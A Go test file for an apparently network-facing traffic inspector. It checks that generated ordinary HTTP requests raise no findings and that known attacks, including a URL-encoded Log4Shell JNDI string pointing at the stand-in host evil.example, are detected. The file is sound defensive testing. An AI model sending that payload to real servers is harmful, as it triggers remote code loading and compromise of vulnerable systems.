// SPDX-License-Identifier: Apache-2.0

package content

import (
	"slices"
	"testing"

	"github.com/holdfast-project/holdfast/agent/wire"
	"github.com/holdfast-project/holdfast/tests/traffic"
)

// TestOrdinaryTraffic has connections full of ordinary requests, in pieces as packets are, and a last one that is none: what
// takes requests apart, decodes them and looks at each of their texts finds that one and nothing else.
func TestOrdinaryTraffic(t *testing.T) {
	generator, requests, size, wrong := traffic.New(9), 20_000, 0, 0
	if testing.Short() {
		requests = 2_000
	}
	r := newRig(t)
	const perConnection = 100
	for n := range requests / perConnection {
		c := piece(wire.ContentInbound)
		c.Cookie = uint64(100 + n)
		for range perConnection {
			text := traffic.Append(nil, generator.Request())
			size += len(text)
			r.send(c, string(text), 1400)
			c.Sequence += uint32(len(text))
			if len(r.found) > 0 {
				f := &r.found[0]
				t.Errorf("%s in the %s %q of a request, in %v: %q", f.Detector, f.Part, f.Name, f.Layers, f.Masked)
				t.Logf("%.2000s", text)
				r.found = r.found[:0]
				if wrong++; wrong == 20 {
					t.FailNow()
				}
			}
		}
		// Hits of one rule from one address are told once a minute.
		c.Remote = [16]uint8{10, 1, uint8(n >> 8), uint8(n)}
		r.send(c, "GET /?q=%24%7Bjndi:ldap://evil.example/a%7D HTTP/1.1\r\nHost: a\r\n\r\n", 1400)
		if len(r.found) != 1 || r.found[0].Class != "log4shell" {
			t.Fatalf("%d findings after %d requests: %+v", len(r.found), perConnection, r.found)
		}
		r.found = r.found[:0]
	}
	t.Logf("%d requests, %d KiB: none found", requests, size>>10)
}

// TestAttackTable has each attack of the table at each place, over connections and from addresses of their own.
func TestAttackTable(t *testing.T) {
	r := newRig(t)
	for i, attack := range traffic.Attacks() {
		for place := range 4 {
			name, request := attack.At(place)
			c := piece(wire.ContentInbound)
			c.Cookie, c.Remote = uint64(100+4*i+place), [16]uint8{10, 2, uint8(i), uint8(place)}
			r.send(c, string(request), 1400)
			if !slices.ContainsFunc(r.found, func(f Found) bool { return f.Class == attack.Class }) {
				t.Errorf("%s %q in the %s: %d findings", attack.Class, attack.Text, name, len(r.found))
			}
			r.found = r.found[:0]
		}
	}
}
